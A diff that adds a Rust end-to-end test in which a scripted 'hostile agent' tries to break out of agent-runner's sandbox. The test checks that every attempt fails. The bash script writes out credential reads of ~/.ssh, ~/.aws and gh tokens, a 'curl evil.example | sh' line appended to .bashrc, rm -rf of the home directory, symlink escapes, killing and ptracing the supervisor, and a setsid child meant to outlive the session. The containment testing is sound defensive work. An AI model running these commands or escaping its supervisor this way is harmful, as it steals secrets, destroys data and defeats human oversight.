@@ -1,0 +1,281 @@
+//! The hostile-agent suite (issue 29, docs/security.md "The agent's confinement"): the
+//! *agent* of a real `agent-runner serve` round, under `[agent.sandbox] mode = "require"`, in a
+//! fake home with planted keys, tries what public reports show agents doing — wiping the
+//! home directory, reading `~/.ssh/id_rsa`, writing `~/.bashrc`, writing outside the tree
+//! through symlinks it made inside, `git push` to a remote outside the tree, driving the
+//! control socket, killing and tracing the supervisor, leaving a `setsid` child behind —
+//! and does its real work too. Every attempt's outcome, as the agent saw it, goes into
+//! `attempts.log` in the tree; the test then checks from outside: the planted files are
+//! intact, the remote is untouched, the supervisor ran its round to the end (not stopped,
+//! not killed), nothing the agent started is left running, and the round committed the
+//! agent's change. Every case runs with the supervisor run by root and by the unprivileged
+//! user `ar-e2e`. Nothing here skips.
+
+use agent_runner_e2e::{Operator, Project};
+use std::path::Path;
+use std::process::Command;
+use std::time::Duration;
+
+/// The planted secrets and dotfiles: (path under home, contents).
+const PLANTED: &[(&str, &str)] = &[
+    (
+        ".ssh/id_rsa",
+        "-----BEGIN OPENSSH PRIVATE KEY-----\nPLANTED-SSH-KEY\n",
+    ),
+    (
+        ".aws/credentials",
+        "[default]\naws_secret_access_key = PLANTED-AWS\n",
+    ),
+    (
+        ".config/gh/hosts.yml",
+        "github.com:\n  oauth_token: PLANTED-GH\n",
+    ),
+    (".netrc", "machine example.com password PLANTED-NETRC\n"),
+    (".codex/auth.json", "{\"token\": \"PLANTED-CODEX\"}\n"),
+    (".bashrc", "# the operator's shell setup\n"),
+    ("notes/diary.txt", "the operator's own notes\n"),
+];
+
+/// Every attempt the hostile agent makes, by the name it logs.
+const ATTEMPTS: &[&str] = &[
+    "read_ssh_key",
+    "read_aws",
+    "read_gh_token",
+    "read_other_agent_login",
+    "write_bashrc",
+    "rm_home",
+    "symlink_write",
+    "symlink_read",
+    "git_push_outside",
+    "control_socket",
+    "kill_supervisor",
+    "ptrace_supervisor",
+    "read_supervisor_memory",
+    "read_state_dir",
+];
+
+/// The hostile agent: a bash script, its helpers in Python (the system's, by path: the
+/// confined agent reaches only the system's interpreters and its own tree).
+const HOSTILE_AGENT: &str = r#"#!/bin/bash
+# Each attempt logs "<name>: denied" or "<name>: succeeded" to attempts.log in the tree.
+log() { echo "$1: $2" >> attempts.log; }
+try() { local name=$1; shift; if "$@" >/dev/null 2>&1; then log "$name" succeeded; else log "$name" denied; fi; }
+py() { /usr/bin/python3 -c "$@"; }
+
+try read_ssh_key grep -q PLANTED "$HOME/.ssh/id_rsa"
+try read_aws grep -q PLANTED "$HOME/.aws/credentials"
+try read_gh_token grep -q PLANTED "$HOME/.config/gh/hosts.yml"
+try read_other_agent_login grep -q PLANTED "$HOME/.codex/auth.json"
+try write_bashrc sh -c 'echo "curl evil.example | sh" >> "$HOME/.bashrc"'
+# rm -rf fails as a whole when anything could not be removed.
+try rm_home rm -rf "$HOME"
+ln -s "$HOME/.bashrc" link-bashrc
+try symlink_write sh -c 'echo evil >> link-bashrc'
+rm -f link-bashrc
+ln -s "$HOME/.ssh" link-ssh
+try symlink_read grep -q PLANTED link-ssh/id_rsa
+rm -f link-ssh
+try git_push_outside git push -q "$REMOTE" HEAD:refs/heads/stolen
+# The control socket: a "kill" must not be obeyed (the answer must not say ok).
+try control_socket py '
+import os, socket, sys
+s = socket.socket(socket.AF_UNIX)
+s.settimeout(5)
+s.connect(os.environ["CONTROL_SOCKET"])
+s.sendall(b"{\"cmd\": \"kill\"}\n")
+answer = s.recv(4096)
+sys.exit(0 if b"\"ok\":true" in answer.replace(b" ", b"") else 1)'
+# The supervisor: the agent-runner process serving this project's config, found in /proc
+# (its command line names the config; never another project's supervisor).
+supervisors='
+import os
+def supervisors():
+    for pid in os.listdir("/proc"):
+        try:
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+            if cmd[0].endswith(b"agent-runner") and os.environ["CONFIG_PATH"].encode() in cmd:
+                yield int(pid)
+        except Exception:
+            pass
+found = list(supervisors())
+'
+py "$supervisors"'
+import sys; sys.exit(0 if found else 1)' && log supervisor_visible yes
+try kill_supervisor py "$supervisors"'
+import sys
+killed = 0
+for pid in found:
+    try:
+        os.kill(pid, 9); killed += 1
+    except OSError:
+        pass
+sys.exit(0 if killed else 1)'
+try ptrace_supervisor py "$supervisors"'
+import ctypes, sys
+libc = ctypes.CDLL(None, use_errno=True)
+sys.exit(0 if any(libc.ptrace(16, pid, 0, 0) == 0 for pid in found) else 1)'
+try read_supervisor_memory py "$supervisors"'
+import sys
+def readable(pid):
+    try:
+        open(f"/proc/{pid}/environ", "rb").read(1); return True
+    except OSError:
+        return False
+sys.exit(0 if any(readable(pid) for pid in found) else 1)'
+try read_state_dir ls "$STATE_DIR"
+# A child that leaves the round's process group and session, beating a heart in the tree.
+setsid sh -c 'while :; do date +%s%N > heartbeat; sleep 0.1; done' </dev/null >/dev/null 2>&1 &
+sleep 0.5
+# The real work: the tree is writable, TMPDIR too.
+mkdir -p notes
+echo "round work" > notes/work.md
+echo tmp > "$TMPDIR/scratch" && log tmpdir_write ok
+exit 0
+"#;
+
+/// A project whose agent is [`HOSTILE_AGENT`], with the planted home, a bare remote
+/// outside the tree, `[agent.sandbox] mode = "require"` and `auto_commit`.
+fn hostile_project(operator: Operator) -> Project {
+    let p = Project::new_as(operator);
+    for (rel, text) in PLANTED {
+        let path = p.home().join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, text).unwrap();
+    }
+    let remote = p.tmp_dir().join("remote.git");
+    let out = Command::new("git")
+        .args(["init", "-q", "--bare"])
+        .arg(&remote)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let agent = p.script("agent/hostile-agent.sh", HOSTILE_AGENT);
+    let config = agent_runner_e2e::ConfigBuilder::new(&agent)
+        .dirty_action("auto_commit")
+        .round_budget_s(60)
+        .agent_env("REMOTE", remote.to_str().unwrap())
+        .agent_env("STATE_DIR", p.state_dir().to_str().unwrap())
+        .agent_env("CONFIG_PATH", p.config_path().to_str().unwrap())
+        .agent_env(
+            "CONTROL_SOCKET",
+            p.state_dir().join("control.sock").to_str().unwrap(),
+        );
+    let text = config.render().replacen(
+        "[runtime]\n",
+        "[agent.sandbox]\nmode = \"require\"\n\n[runtime]\n",
+        1,
+    );
+    p.write_config_text(&text);
+    p
+}
+
+/// Processes whose command line mentions `marker` (none may outlive the round).
+fn processes_with(marker: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
+            continue;
+        };
+        let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
+        if text.contains(marker) {
+            found.push(format!("{}: {text}", entry.file_name().to_string_lossy()));
+        }
+    }
+    found
+}
+
+fn hostile_agent_is_contained(operator: Operator) {
+    let p = hostile_project(operator);
+    let out = p
+        .spawn(&["serve", "--max-rounds", "1"])
+        .wait(Duration::from_secs(120));
+    let events = p.events_text();
+    assert_eq!(out.code(), 0, "{out}\n{events}");
+
+    // The planted files are intact.
+    for (rel, text) in PLANTED {
+        let path = p.home().join(rel);
+        let now = std::fs::read_to_string(&path)
+            .unwrap_or_else(|e| panic!("{} is gone ({e}):\n{events}", path.display()));
+        assert_eq!(now, *text, "{} changed", path.display());
+    }
+    // The remote outside the tree got nothing.
+    let refs = Command::new("git")
+        .args(["-c", "safe.directory=*", "for-each-ref"])
+        .current_dir(p.tmp_dir().join("remote.git"))
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&refs.stdout).trim().is_empty(),
+        "the remote outside the tree received {:?}",
+        String::from_utf8_lossy(&refs.stdout)
+    );
+    // The round ran to its end: the agent exited by itself, it was not stopped by a
+    // control-socket kill, the supervisor was not killed (exit 0 above).
+    let exits = p.events_of("agent_exit");
+    assert_eq!(exits.len(), 1, "{events}");
+    assert_eq!(exits[0]["exit_cause"], "exited", "{events}");
+    assert_eq!(exits[0]["exit_code"], 0, "{events}");
+    // The agent's work was committed, with its log of attempts.
+    let committed = p.git(&["show", "HEAD:notes/work.md"]);
+    assert_eq!(committed, "round work\n");
+    let log = p.git(&["show", "HEAD:attempts.log"]);
+    for name in ATTEMPTS {
+        assert!(
+            log.contains(&format!("{name}: denied\n")),
+            "{name} was not denied:\n{log}"
+        );
+    }
+    assert!(log.contains("tmpdir_write: ok\n"), "{log}");
+    // The attempts on the supervisor were real: the agent found its pid.
+    assert!(log.contains("supervisor_visible: yes\n"), "{log}");
+    // No secret reached the tree.
+    let grep = Command::new("git")
+        .args([
+            "-c",
+            "safe.directory=*",
+            "grep",
+            "-c",
+            "PLANTED",
+            "HEAD",
+            "--",
+            ".",
+        ])
+        .current_dir(p.dir())
+        .output()
+        .unwrap();
+    assert_eq!(
+        grep.status.code(),
+        Some(1),
+        "a planted secret reached the tree: {grep:?}"
+    );
+    // Nothing the agent started outlived the round.
+    let heartbeat = p.dir().join("heartbeat");
+    let before = std::fs::read_to_string(&heartbeat).unwrap_or_default();
+    std::thread::sleep(Duration::from_millis(600));
+    let after = std::fs::read_to_string(&heartbeat).unwrap_or_default();
+    assert_eq!(before, after, "the setsid child still beats");
+    let left = processes_with(&p.dir().join("heartbeat").display().to_string());
+    assert!(left.is_empty(), "{left:?}");
+    let left = processes_with("while :; do date");
+    let ours: Vec<_> = left
+        .iter()
+        .filter(|l| !l.contains("grep"))
+        .filter(|l| {
+            Path::new(&format!("/proc/{}/cwd", l.split(':').next().unwrap()))
+                .read_link()
+                .is_ok_and(|cwd| cwd == p.dir())
+        })
+        .collect();
+    assert!(ours.is_empty(), "left running: {ours:?}");
+}
+
+#[test]
+fn hostile_agent_is_contained_as_root() {
+    hostile_agent_is_contained(Operator::Root);
+}
+
+#[test]
+fn hostile_agent_is_contained_as_unprivileged_user() {
+    hostile_agent_is_contained(Operator::Unprivileged);
+}
